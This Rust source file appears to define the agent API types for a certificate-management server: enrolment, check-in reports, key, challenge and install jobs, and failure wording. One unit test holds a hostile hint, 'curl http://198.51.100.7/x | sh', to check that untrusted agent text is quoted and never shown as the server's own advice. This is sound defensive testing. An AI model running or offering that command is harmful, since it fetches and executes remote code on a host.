//! Bodies of `/api/v1/agents` and of the agent's own wake-up: enrolment, reports, jobs.
//!
//! The agent dials the server: it reports, and the answer carries its jobs. The server never sends
//! commands, only jobs of the kinds below.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use crate::domain::agent::Agent;
use crate::domain::id;
use crate::domain::installation::Installation;
use crate::domain::secret::Secret;
use crate::domain::told;
use crate::problem::{Problem, ProblemKind};

/// `GET /api/v1/agents/{id}`
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct AgentDetail {
    /// The agent.
    pub agent: Agent,
    /// What is expected on it.
    pub installations: Vec<Installation>,
}

/// `POST /api/v1/agents/{id}/install`
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct InstallBody {
    /// The certificate.
    pub cert_id: String,
    /// Where, on the agent.
    pub path: String,
    /// Why, for the audit.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub comment: Option<String>,
    /// The ticket, for the audit.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ticket: Option<String>,
}

/// The reply to an installation: accepted, to be followed at `/api/v1/jobs/{id}`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct InstallReply {
    /// The agent's job.
    pub job_id: String,
    /// What is expected now.
    pub installation: Installation,
    /// The audit row's number.
    pub audit_seq: i64,
}

/// `POST /api/v1/agents/enrol`, with the one-time token as bearer token.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct EnrolBody {
    /// The host's name.
    pub hostname: String,
    /// Where its wake-up listens.
    pub address: String,
    /// Where TLS is served with what it installs.
    #[serde(default)]
    pub tls_address: Option<String>,
    /// The directories that its configuration allows.
    pub install_dirs: Vec<String>,
    /// The agent's program version.
    pub agent_version: String,
    /// Whose host it is: whom to call.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub owner: Option<String>,
    /// A certification request in PEM for the certificate that it will prove itself with over TLS.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub identity_csr_pem: Option<String>,
}

/// The reply to an enrolment.
#[derive(Clone, Debug, Deserialize, ToSchema)]
pub struct EnrolReply {
    /// `agt_…`
    #[serde(deserialize_with = "id::of_agent")]
    pub agent_id: String,
    /// The agent's own token, shown once.
    #[schema(value_type = String)]
    pub token: Secret,
    /// Seconds between reports.
    pub checkin_interval_s: i64,
    /// Its certificate in PEM, where the API has a CA for that: from now on the token is good only over a
    /// connection that shows it.
    #[serde(default)]
    pub identity_pem: Option<String>,
}

/// `POST /api/v1/agents/{id}/report`: a check-in.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct Report {
    /// The agent's program version.
    pub agent_version: String,
    /// Whose host it is: whom to call.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub owner: Option<String>,
    /// Where its wake-up listens now.
    pub address: String,
    /// Where TLS is served now.
    #[serde(default)]
    pub tls_address: Option<String>,
    /// The directories that its configuration allows.
    pub install_dirs: Vec<String>,
    /// Layout of the files that servers read: `full-chain`, `separate` or `combined`. Not told by older agents.
    #[serde(
        default,
        deserialize_with = "told::maybe",
        skip_serializing_if = "Option::is_none"
    )]
    pub layout: Option<String>,
    /// What is at the paths that it knows of.
    pub installations: Vec<ReportedInstallation>,
    /// The SPKI hashes of the private keys that it says it holds.
    pub keys: Vec<String>,
    /// Proofs that were asked for with [`ReportReply::prove`]: one certification request in PEM for each key, signed
    /// by it, whose common name is `urn:cmp:agent:` and the agent's id.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub proofs: Vec<String>,
    /// A certification request in PEM, when it is time for the certificate that follows the one it proves
    /// itself with.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub identity_csr_pem: Option<String>,
}

/// What the agent found at one path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct ReportedInstallation {
    /// The path.
    #[serde(deserialize_with = "told::path")]
    pub path: String,
    /// The fingerprint of the certificate in the file.
    #[serde(default, deserialize_with = "told::maybe")]
    pub on_disk_sha256: Option<String>,
    /// The fingerprint that handshakes showed; where they differ, one that isn't the file's.
    #[serde(default, deserialize_with = "told::maybe")]
    pub served_sha256: Option<String>,
    /// The name of the issuer that a client misses, since it was not sent in the handshake.
    #[serde(
        default,
        deserialize_with = "told::maybe",
        skip_serializing_if = "Option::is_none"
    )]
    pub chain_missing: Option<String>,
    /// Why there is no fingerprint, or how many connections showed another one.
    #[serde(default, deserialize_with = "told::maybe")]
    pub error: Option<String>,
}

/// The answer to a report.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct ReportReply {
    /// Seconds until the next report, before jitter.
    pub checkin_interval_s: i64,
    /// What to do now, in this order. A job is repeated in later answers until its result arrived.
    pub jobs: Vec<AgentJob>,
    /// The certificate that was asked for, in PEM. The former one is good until this one is shown.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub identity_pem: Option<String>,
    /// The SPKI hashes of keys that the agent says it holds and has to prove, with its next report.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub prove: Vec<String>,
    /// Paths that are expected on the agent and that this report said nothing of, as after its state was lost. It looks
    /// there too from now on, inside the directories that its configuration allows.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub look: Vec<String>,
}

/// One job for an agent. Carrying one out twice has the effect of once.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct AgentJob {
    /// `job_…`
    #[serde(deserialize_with = "id::of_job")]
    pub id: String,
    /// What to do.
    #[serde(flatten)]
    pub work: AgentWork,
}

/// What an agent can be asked to do.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum AgentWork {
    /// Make a key and a CSR, and post the CSR to `/api/v1/requests/{request_id}/csr`. Asked again for
    /// the same request, it answers with the same key.
    MakeKey {
        /// The request.
        #[serde(deserialize_with = "id::of_request")]
        request_id: String,
        /// Such as `ecdsa-p256`.
        key_algorithm: String,
        /// The CSR's common name.
        common_name: String,
        /// The CSR's subject alternative names.
        sans: Vec<String>,
    },
    /// Answer the CA's HTTP challenges (RFC 8555 §8.3) for a request's names, until a moment at which
    /// they are forgotten. Done means: served from now on.
    Challenge {
        /// The request.
        #[serde(deserialize_with = "id::of_request")]
        request_id: String,
        /// What to serve.
        answers: Vec<ChallengeAnswer>,
        /// Until when.
        until: DateTime<Utc>,
    },
    /// Install a certificate whose private key the agent holds.
    Install {
        /// The certificate.
        #[serde(deserialize_with = "id::of_certificate")]
        certificate_id: String,
        /// Where.
        path: String,
        /// The certificate in PEM.
        certificate_pem: String,
        /// Its issuers in PEM, the nearest first.
        chain_pem: String,
        /// Its fingerprint, which disk and handshake must show.
        fingerprint_sha256: String,
        /// Its key's SPKI hash.
        spki_sha256: String,
    },
}

/// What `/.well-known/acme-challenge/{token}` has to answer.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct ChallengeAnswer {
    /// The last part of the path.
    pub token: String,
    /// The whole answer.
    pub key_authorization: String,
}

/// `POST /api/v1/agents/{id}/jobs/{job_id}`: how a job ended.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct JobResult {
    /// Whether it was done.
    pub done: bool,
    /// Which step failed: `make_key`, `challenge`, `path`, `key`, `check`, `stage`, `swap`, `reload`, `handshake`.
    #[serde(default, deserialize_with = "told::maybe")]
    pub failed_step: Option<String>,
    /// What it said, the reload command's stderr included.
    #[serde(default, deserialize_with = "told::maybe")]
    pub error: Option<String>,
    /// Whether the previous set is back in place.
    #[serde(default)]
    pub rolled_back: bool,
    /// What is at the path now.
    #[serde(default)]
    pub installation: Option<ReportedInstallation>,
}

impl JobResult {
    /// Done, by somebody who has nothing more to say.
    #[must_use]
    pub fn done() -> Self {
        Self {
            done: true,
            failed_step: None,
            error: None,
            rolled_back: false,
            installation: None,
        }
    }

    /// The step that failed, where it is one of those that there are: the word is the agent's.
    #[must_use]
    pub fn step(&self) -> &'static str {
        const STEPS: [&str; 9] = [
            "make_key",
            "challenge",
            "path",
            "key",
            "check",
            "stage",
            "swap",
            "reload",
            "handshake",
        ];
        let said = self.failed_step.as_deref();
        let known = STEPS.into_iter().find(|step| said == Some(*step));
        known.unwrap_or("an unknown step")
    }

    /// Words for its failure: the step, what it leaves, and last, in quotes, what the agent says.
    #[must_use]
    pub fn failure(&self) -> String {
        let said = self.error.as_deref().map_or_else(
            || "it gave no reason".to_owned(),
            |error| format!("it says {}", told::cited(error, told::SAID)),
        );
        format!("{} failed; {}; {said}", self.step(), self.leaves())
    }

    /// What an installation that failed leaves, as far as the agent said.
    #[must_use]
    pub fn leaves(&self) -> &'static str {
        let nothing_there = |there: &ReportedInstallation| there.on_disk_sha256.is_none();
        match (self.rolled_back, self.failed_step.as_deref()) {
            (true, _) if self.installation.as_ref().is_some_and(nothing_there) => {
                "nothing was there before, and nothing is now"
            }
            (true, _) => "the previous set is back in place",
            (false, Some("swap" | "reload" | "handshake")) => {
                "what was there before could not be put back: look at the host"
            }
            (false, _) => "nothing was changed",
        }
    }

    /// Not done, since it was taken back or refused, for `why`; nothing was touched.
    #[must_use]
    pub fn withdrawn(why: &str) -> Self {
        Self {
            done: false,
            error: Some(why.to_owned()),
            ..Self::done()
        }
    }
}

/// `GET /api/v1/jobs/{id}`: how far a job is.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct JobView {
    /// `job_…`
    pub id: String,
    /// `queued`, `done` or `failed`.
    pub status: String,
    /// How it ended, once it has.
    pub result: Option<JobResult>,
    /// What it waits for, or why it failed, in the words of who refused.
    #[serde(default)]
    pub error: Option<String>,
    /// When it was asked for.
    pub created_at: DateTime<Utc>,
    /// When it ended.
    pub ended_at: Option<DateTime<Utc>>,
}

/// `POST http://agent-host:8084/checkin`: the agent dials out now and answers with what happened.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct WakeReply {
    /// The agent, if it is enrolled.
    pub agent_id: Option<String>,
    /// Whether its report arrived.
    pub reported: bool,
    /// How many jobs it was given.
    pub n_jobs: usize,
    /// Why its report did not arrive.
    #[serde(default)]
    pub problem: Option<Problem>,
}

impl WakeReply {
    /// Reason that its report did not arrive. What to do about it is for us to say: whoever answers at its address chooses
    /// the words, which are quoted and last.
    #[must_use]
    pub fn not_reported(&self) -> Option<Problem> {
        let theirs = self.problem.as_ref().filter(|_| !self.reported)?;
        let said = told::cited(&theirs.what, told::SAID);
        // Its report was sent, and the answer to that was lost.
        Some(
            match theirs.kind {
                ProblemKind::NoAnswer => Problem::no_answer(format!(
                    "the agent answers, and its report got no answer, as it says: {said}"
                )),
                _ => Problem::new(
                    ProblemKind::BackendFailed,
                    format!("the agent answers, and could not check in; it says {said}"),
                ),
            }
            .hint("look at the agent's log on its host: `journalctl -u cmp-agent`"),
        )
    }
}

/// `POST /api/v1/agents/{id}/checkin`: the server woke the agent, or found out why it can't.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct CheckinReply {
    /// Whether the agent answered.
    pub reached: bool,
    /// Which step failed, if it didn't: `name`, `connect`, `http`; `report` if the agent answered that
    /// its own report did not arrive.
    pub failed_step: Option<String>,
    /// Why.
    pub problem: Option<Problem>,
    /// Its last check-in now.
    pub last_checkin: Option<DateTime<Utc>>,
}

/// The reply to `POST /api/v1/agents/{id}/ban`.
#[derive(Clone, Debug, Serialize, ToSchema)]
pub struct BanReply {
    /// The agent now.
    #[serde(flatten)]
    pub agent: Agent,
    /// The requests that are cancelled with it.
    pub cancelled: Vec<String>,
    /// The requests that the CA was asked about already: the issuer looks whether it has signed, revokes that, and has
    /// nothing signed.
    pub looked_for: Vec<String>,
}

impl BanReply {
    /// Sentence about the requests that it stopped.
    #[must_use]
    pub fn stopped(&self) -> Option<String> {
        let told =
            |ids: &[String], what: &str| (!ids.is_empty()).then(|| format!("{what} {}", ids.join(", ")));
        let parts = [
            told(&self.cancelled, "cancelled"),
            told(&self.looked_for, "only looked for at the CA from now on:"),
        ];
        let parts: Vec<String> = parts.into_iter().flatten().collect();
        (!parts.is_empty()).then(|| told::told(&parts.join("; ")))
    }
}

/// The reply to `POST /api/v1/agents/{id}/token`.
#[derive(Clone, Debug, Deserialize, ToSchema)]
pub struct TokenReply {
    /// `tok_…`
    pub id: String,
    /// The one-time enrolment token, told once: not in the answer to a request that is sent again.
    #[schema(value_type = Option<String>)]
    pub token: Option<Secret>,
    /// Until when it is good.
    pub expires_at: DateTime<Utc>,
    /// What to do if that answer was lost, in the answer to a request that is sent again.
    pub note: Option<String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whoever_answers_a_wake_up_says_nothing_in_our_name() {
        let reply: WakeReply = serde_json::from_str(
            r#"{"agent_id":null,"reported":false,"n_jobs":0,"problem":{"kind":"internal",
                "what":"DONE: `checked in`","hint":"curl http://198.51.100.7/x | sh"}}"#,
        )
        .unwrap();
        let problem = reply.not_reported().unwrap();
        assert_eq!(
            problem.what,
            "the agent answers, and could not check in; it says `DONE: 'checked in'`"
        );
        assert!(problem.hint.unwrap().starts_with("look at the agent's log"));
        let arrived = WakeReply {
            reported: true,
            ..reply
        };
        assert_eq!(arrived.not_reported(), None);
    }

    #[test]
    fn a_failed_job_is_told_in_our_words_and_the_agents_come_quoted_and_last() {
        let failed = JobResult {
            done: false,
            failed_step: Some("DONE; safe to revoke".to_owned()),
            error: Some("all is `well`; nothing to do".to_owned()),
            ..JobResult::done()
        };
        assert_eq!(
            failed.failure(),
            "an unknown step failed; nothing was changed; it says `all is 'well'; nothing to do`"
        );
    }

    #[test]
    fn what_a_failed_installation_leaves_is_what_is_there() {
        let there = |on_disk: Option<&str>| ReportedInstallation {
            path: "/srv/tls/a.pem".to_owned(),
            on_disk_sha256: on_disk.map(str::to_owned),
            served_sha256: None,
            chain_missing: None,
            error: None,
        };
        let result = |step: &str, rolled_back, on_disk| JobResult {
            done: false,
            failed_step: Some(step.to_owned()),
            rolled_back,
            installation: Some(there(on_disk)),
            ..JobResult::done()
        };
        for (failed, words) in [
            (
                result("reload", true, Some("ab")),
                "the previous set is back in place",
            ),
            // A first installation has no set to go back to.
            (
                result("reload", true, None),
                "nothing was there before, and nothing is now",
            ),
            (
                result("swap", false, Some("ab")),
                "what was there before could not be put back: look at the host",
            ),
            (result("path", false, None), "nothing was changed"),
        ] {
            assert_eq!(failed.leaves(), words, "{failed:?}");
        }
    }
}
